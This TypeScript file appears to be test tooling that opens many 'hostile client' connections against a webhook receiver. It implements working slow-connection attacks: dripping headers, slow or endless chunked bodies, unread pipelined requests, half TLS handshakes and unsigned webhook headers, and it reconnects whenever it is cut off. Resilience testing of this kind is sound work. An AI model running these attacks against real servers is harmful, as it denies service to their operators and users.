import { connect, type Socket } from 'node:net';

/**
 * Hostile clients in a process of their own: `node hostile-clients.ts KIND URL COUNT FROM`. Keeps so many connections open
 * from that local address, and opens one anew whenever it was cut off.
 */
export const KINDS = [
  'unreadPipelined',
  'slowHeaders',
  'slowBodies',
  'slowBodiesWithHeaders',
  'endlessBodies',
  'endlessBodiesElsewhere',
  'unreadAnswers',
  'silent',
  'halfHandshakes',
] as const;
export type Kind = (typeof KINDS)[number];

const [kind = '', url = '', count = '200', localAddress = '127.0.0.1'] = process.argv.slice(2);
/** A few hundred new connections a second, however many there are: this is about holding, not about flooding. */
const AGAIN_AFTER_MS = Math.max(1_000, 4 * Number(count));
const { hostname, port, pathname, search } = new URL(url);
const target = pathname + search;

const GET = `GET ${target} HTTP/1.1\r\nhost: receiver\r\n\r\n`;
const head = (path: string, ...headers: string[]) =>
  `${[`POST ${path} HTTP/1.1`, 'host: receiver', 'content-type: application/cloudevents+json', ...headers].join('\r\n')}\r\n\r\n`;
/** Of the right shape and time, signed by nobody. */
const unsigned = () => [
  'webhook-id: evt_hostile',
  `webhook-timestamp: ${Math.floor(Date.now() / 1_000)}`,
  `webhook-signature: v1,${'A'.repeat(43)}=`,
];
const LENGTH = 'content-length: 262144';
const CHUNKED = 'transfer-encoding: chunked';
const CHUNK = `4000\r\n${' '.repeat(16_384)}\r\n`;

const ATTACKS: Readonly<Record<Kind, (socket: Socket) => void>> = {
  unreadPipelined: (socket) => forEver(socket, GET.repeat(2_000)),
  slowHeaders: (socket) => dripping(socket, GET.replace('\r\n\r\n', `\r\nx: ${'y'.repeat(500)}`)),
  slowBodies: (socket) => socket.write(head('/events', LENGTH) + ' '.repeat(255_000)),
  slowBodiesWithHeaders: (socket) =>
    socket.write(head('/events', LENGTH, ...unsigned()) + ' '.repeat(255_000)),
  endlessBodies: (socket) => endless(socket, head('/events', CHUNKED, ...unsigned())),
  endlessBodiesElsewhere: (socket) => endless(socket, head('/events/evt_x/handlers/y/run', CHUNKED)),
  unreadAnswers: (socket) => socket.write(GET),
  silent: () => {},
  halfHandshakes: (socket) =>
    dripping(socket, `\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03${'r'.repeat(500)}`),
};

function forEver(socket: Socket, text: string): void {
  const on = () => {
    while (!socket.destroyed && socket.write(text));
  };
  socket.on('drain', on);
  on();
}

function endless(socket: Socket, first: string): void {
  socket.write(first);
  forEver(socket, CHUNK);
}

function dripping(socket: Socket, text: string): void {
  let at = 0;
  const drip = setInterval(() => void socket.write(text.charAt(at++), 'latin1'), 200);
  socket.on('close', () => clearInterval(drip));
}

function attack(run: (socket: Socket) => void): void {
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  // Nothing is ever read.
  socket.pause();
  socket.on('connect', () => run(socket));
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(attack, AGAIN_AFTER_MS, run));
  // Who does not read does not notice the end either; a write does.
  const look = setInterval(() => {
    if (socket.writable && kind.startsWith('slowBodies')) socket.write(' ');
  }, 1_000);
  socket.on('close', () => clearInterval(look));
}

if (import.meta.main) {
  for (let index = 0; index < Number(count); index += 1) attack(ATTACKS[kind as Kind]);
  setTimeout(() => process.stdout.write('attacking\n'), 300);
}
